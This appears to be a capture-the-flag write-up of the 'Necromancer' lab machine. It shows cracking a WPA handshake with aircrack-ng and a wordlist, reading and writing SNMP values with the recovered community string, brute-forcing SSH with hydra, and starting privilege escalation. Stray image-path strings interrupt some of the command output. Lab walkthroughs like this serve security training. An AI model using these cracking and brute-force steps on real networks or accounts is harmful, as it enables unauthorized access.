The spell broke and we have a new cipher to crack. Decrypting it results in the string 809472671. 😒 Not again!! A number that doesn’t make any sense. The other part of the clue seems like a web directory to me. Let’s see if it really is.


Awesome!! A face off with the Necromancer. I have to admit that the pic is super cool and so is the story so far.

The text reads:

You continue to make your way through the cave.
In the distance you can see a familiar flicker of light moving in and out of the shadows.
As you get closer to the light you can hear faint footsteps, followed by the sound of a heavy door opening.
You move closer, and then stop frozen with fear.
It’s the necromancer!Again he stares at you with deathly hollow eyes.
He is standing in a doorway; a staff in one hand, and an object in the other.
Smirking, the necromancer holds the staff and the object in the air.
He points his staff in your direction, and the stench of death and decay begins to fill the air.
You stare into his eyes and then…….

…… darkness. You open your eyes and find yourself lying on the damp floor of the cave.
The amulet must have saved you from whatever spell the necromancer had cast.
You stand to your feet. Behind you, only darkness.
Before you, a large door with the symbol of a skull engraved into the surface.
Looking closer at the skull, you can see u161 engraved into the forehead.

Decrypting the flag gives us another number 1756462165. I wonder what these numbers are for! A little googling tells that the port mentioned at the end (UDP 161) is a standard port of Simple network management protocol (SNMP). I thought they might have replaced the standard SNMP with something else and tried chanting all our unused flags on this port but for nothing.

There’s also a link on the page which allows us to download something. Wish it’s a stack smash too…Please!!!


Flag 7 : A ‘Walk’ To Where The Beacon Points

Let’s try to figure out what type of a file is this.

root@Sierra ~/_pileoffeathers.jpg.extracted % file necromancer
necromancer: bzip2 compressed data, block size = 900k
root@Sierra ~/_pileoffeathers.jpg.extracted % tar -xvjf necromancer
root@Sierra ~/_pileoffeathers.jpg.extracted % file necromancer.cap
necromancer.cap: tcpdump capture file(little-endian) -- version 2.4 (802.11, capture length 65535)

Hmm!! So it’s not another stack smash. It’s a compressed file upon extraction of which we get a tcpdump. Well, that’s a little wierd. I’d like to show the entire dump but it’s just to long to dump it here. So I’ve clipped almost all of it and displayed only the part which I focused on. Here it is:

root@Sierra ~/_pileoffeathers.jpg.extracted % tcpdump -A -r necromancer.cap
13:06:15.245276 Beacon (community) [1.0* 2.0*5.5* 11.0* 18.0 24.0 36.0 54.0Mbit] ESS CH:
13:06:15.843289 Probe Response (community) [1.0* 2.0* 5.5* 11.0* 18.0 24.0 36.0 54.0 Mbit]
……..d.1.. community…..
13:06:21.568896 DeAuthentication (c4:12:f5:0d:5e:95 (oui Unknown)): Class 3 frame received
from nonassociated station
13:06:21.994834 Assoc Request (community) [1.0* 2.0* 5.5* 11.0* 18.0 24.0 36.0 54.0 Mbit]
.. community……$0Hl2….`!…$…0…………………-.-…………………………..@.@k……L3-…………………….. …………P…..
13:06:22.043034 EAPOL key (3) v2, len 175
…………………Z-….6(….2C…..v.B..H0..2C…..v.B..H0…………………..h2……….P…LRLH…>.Z…6A….cy.w.).L.\..).. .#…
?\……..MbJ….~…..k. =..*=……

Looks like we have WiFi beacons from an access point by the name community which seems to be using channel 11, some probe responses,DeAuthentication signals being sent over the network, some Association requests, and finally it is what appears to me like a WPA Handshake. Does all of it ring any of your hacker bell? It does? Let’s see if we can rely on our instincts.

root@Sierra ~/_pileoffeathers.jpg.extracted % aircrack-ng necromancer.cap
Opening necromancer.cap
Read 2197 packets.
BSSID ESSID Encryption
1 C4:12:F5:0D:5E:95 community WPA (1 handshake)
Choosing first network as target.
Opening necromancer.cap
Please specify a dictionary (option -w).
Quitting aircrack-ng…

Loco Amigo!! I was correct about it. There’s a WPA handshake. Let’s go ahead and bruteforce it.

root@Sierra ~/_pileoffeathers.jpg.extracted % aircrack-ng -w /usr/share/wordlists/rockyou.txt necromancer.cap
Opening necromancer.cap
Read 2197 packets.
BSSID ESSID Encryption
1 C4:12:F5:0D:5E:95 community WPA (1 handshake)
Choosing first network as target.
Opening necromancer.cap
Reading packets, please wait…
Aircrack-ng 1.2 rc4
[00:00:10] 16088/9822768 keys tested (1613.68 k/s)
Time left: 1 hour, 41 minutes, 19 seconds 0.16%KEY FOUND! [ death2all ]
Master Key : 7C F8 5B 00 BC B6 AB ED B0 53 F9 94 2D 4D B7 AC
DB FA 53 6F A9 ED D5 68 79 91 84 7B 7E 6E 0F E7
Transient Key : EB 8E 29 CE 8F 13 71 29 AF FF 04 D7 98 4C 32 3C
56 8E 6D 41 55 DD B7 E4 3C 65 9A 18 0B BE A3 B3
C8 9D 7F EE 13 2D 94 3C 3F B7 27 6B 06 53 EB 92
3B 10 A5 B0 FD 1B 10 D4 24 3C B9 D6 AC 23 D5 7D
EAPOL HMAC : F6 E5 E2 12 67 F7 1D DC 08 2B 17 9C 72 42 71 8E

And bruteforcing the encrypted 4-way handshake leaves us with its password death2all. Now let me try to put our situation together. We have a suspected SNMP service and a string death2all from an access point named community. A quick google search tells us that SNMP v1 and v2c happen to use a so called “Community String” that is sent to the SNMP server along with the request. The router replies with the requested stats only if the string is correct. This makes sense. Looks like we’re all set to “walk” ahead.

root@Sierra ~/_pileoffeathers.jpg.extracted % snmpwalk -c death2all -v 1
iso. = STRING: “You stand in front of a door.”
iso. = STRING: “The door is Locked. If you choose to defeat me, the door
must be Unlocked.”
iso. = STRING: “Fear the Necromancer!”
iso. = STRING: “Locked -- death2allrw!”
End of MIB

The message says that the door is ‘Locked’ and in order to defeat Necromancer the door must be ‘Unlocked’. The last string looks like the readable/writable version of out community string and it’s ‘Locked’ too. Let’s try making it ‘Unlocked’ and snmpwalk again.

root@Sierra ~/_pileoffeathers.jpg.extracted % snmpset -v 1 -c death2allrw
iso. s “Unlocked”
iso. = STRING: “Unlocked”
root@Sierra ~/_pileoffeathers.jpg.extracted % snmpwalk -c death2all -v 1
iso. = STRING: “You stand in front of a door.”
iso. = STRING: “The door is unlocked! You may now enter the Necromancer’s
iso. = STRING: “Fear the Necromancer!”
iso. = STRING: “flag7{9e5494108d10bbd5f9e7ae52239546c4}-- t22”
End of MIB

Haha! “t22”! Everyone knows what it means. All we need is a username ans a password. Flag 7 decrypts to demonslayer. I tried using it as the username and all the unused flags as password but as they say, “History repeats itself”. Those numbers are utterly useless. I tried demonslayer:demonslayer but nothing. So I planned to bruteforce it.

Flag 8, 9 and 10 : Questions Of Faithroot@Sierra ~/_pileoffeathers.jpg.extracted % hydra -s 22 -t 64 -l demonslayer -P /usr/share/wordlists/rockyou.txt ssh://
Hydra v8.6 (c) 2017 by van Hauser/THC -- Please do not use in military or secret service
organizations, or for illegal purposes.
Hydra ( starting at 2017-11-05 21:12:30
[WARNING] Many SSH configurations limit the number of parallel tasks, it is recommended to
reduce the tasks: use -t 4
[DATA] max 64 tasks per 1 server, overall 64 tasks, 14344399 login tries (l:1/p:14344399),
~224132 tries per task
[DATA] attacking ssh://
[22][ssh] host: login: demonslayer password: 12345678
1 of 1 target successfully completed, 1 valid password found
[WARNING] Writing restore file because 53 final workerthreads did not complete until end.
[ERROR] 53 targets did not resolve or could not be connected
[ERROR] 64 targets did not complete
Hydra ( finished at 2017-11-05 21:12:34

Success! Turns out the password was 12345678. I wished for something cool but life’s full of disappointments, isn’t it? Let’s move on and enter the Demon’s lair.

root@Sierra ~/_pileoffeathers.jpg.extracted % ssh -l demonslayer

Demon's Lair

Whoa!!! This ASCII art is unbelievably awesome!! Now, let’s see what do we have here.

root@Sierra ~/_pileoffeathers.jpg.extracted % ssh -l demonslayer
demonslayer@’s password:
Last login: Mon Oct 30 02:11:28 2017 from
cat flag8.txt
You enter the Necromancer’s Lair!
A stench of decayfills this place.
Jars filled with parts of creatures litter the bookshelves.
A fire with flames of green burns coldly in the distance.
Standing in the middle of the room with his back to you is the Necromancer.
In front of him lies a corpse, indistinguishable from any living creature you have seen before.
He holds a staff in one hand, and the flickering object in the other.
“You are a fool to follow me here! Do you not know who I am!”
The necromancer turns to face you. Dark words fill the air!
“You are damned already my friend. Now prepare for your own death!”
Defend yourself! Counter attack the Necromancer’s spells at u777!

Getting this close to Necromancer is scary but someone’s gotta do it! Since we’re already logged into the box, I decided not to switch terminal and nc from outside. The box comes with its own NetCat.

which nc
nc -u localhost 777
** You only have 3 hitpoints left! **
Defend yourself from the Necromancer’s Spells!
Where do the Black Robes practice magic of the Greater Path? Kelewan
** You only have 3 hitpoints left! **
Defend yourself from the Necromancer’s Spells!Who did Johann Faust VIII make a deal with? Mephistopheles
** You only have 3 hitpoints left! **
Defend yourself from the Necromancer’s Spells!
Who is tricked into passing the Ninth Gate? Hedge
A great flash of light knocks you to the ground; momentarily blinding you!
As your sight begins to return, you can see a thick black cloud of smoke lingering where
the Necromancer once stood.
An evil laugh echoes in the room and the black cloud begins to disappear into the cracks
in the floor.
The room is silent.
You walk over to where the Necromancer once stood.
On the ground is a small vile.The Necromancer asks some question and I wished the answers were those stupid numbers that we found. 😪 Useless numbers! Google, once again, saved the day. Decrypting those flags we just found weren’t worth wasting time on. They decrypt to the answers that we provided. In case you’re wondering what happens if you provide wrong answers to those questions:

Kicked Out

The Necromancer kicks you out of the machine and terminates your SSH connection.

Flag 11 : Drink To Satisfy The Thirst Of Power

The last message says:

A great flash of light knocks you to the ground; momentarily blinding you!

As your sight begins to return, you can see a thick black cloud of smoke lingering where the Necromancer once stood.

An evil laugh echoes in the room and the black cloud begins to disappear into the cracks in the floor.

The room is silent.

You walk over to where the Necromancer once stood.

On the ground is a small vile.

Let’s see what that small vile is.


Err…!! There doesn’t seem to be anything. Let’s look carefully as it’s a “small vile”.ls -lah
total 44
drwxr-xr-x 3 demonslayer demonslayer 512B Jun 23 2016 .
drwxr-xr-x 3 root wheel 512B May 11 2016 ..
-rw-r--r-- 1 demonslayer demonslayer 87B May 11 2016 .Xdefaults
-rw-r--r-- 1 demonslayer demonslayer 773B May 11 2016 .cshrc
-rw-r--r-- 1 demonslayer demonslayer 103B May 11 2016 .cvsrc
-rw-r--r-- 1 demonslayer demonslayer 359B May 11 2016 .login
-rw-r--r-- 1 demonslayer demonslayer 175B May 11 2016 .mailrc
-rw-r--r-- 1 demonslayer demonslayer 218B May 11 2016 .profile
-rw-r--r-- 1 demonslayer demonslayer 196B Nov 6 07:26 .smallvile
drwx--- 2 demonslayer demonslayer 512B May 11 2016 .ssh
-rw-r--r-- 1 demonslayer demonslayer 706B May 11 2016 flag8.txt

Turns out it’s so small that it’s not visible at all. We had to look for the hidden files to see it.

cat .smallvile
You pick up the small vile.
Inside of it you can see a green liquid.
Opening the vile releases a pleasant odour into the air.
You drink the elixir and feel a great power within your veins!

So we enjoyed the pleasent odour, drank the liquid and now we seem to have some power! Let’s see if we can get root access. After all there’s no power such as root.sudo -i
Sorry, user demonslayer is not allowed to execute ‘/bin/ksh’ as root on thenecromancer.

Nope, We’re not allowed to execute our shell as root. So what are we allowed to do?

sudo -l
Matching Defaults entries for demonslayer on thenecromancer:
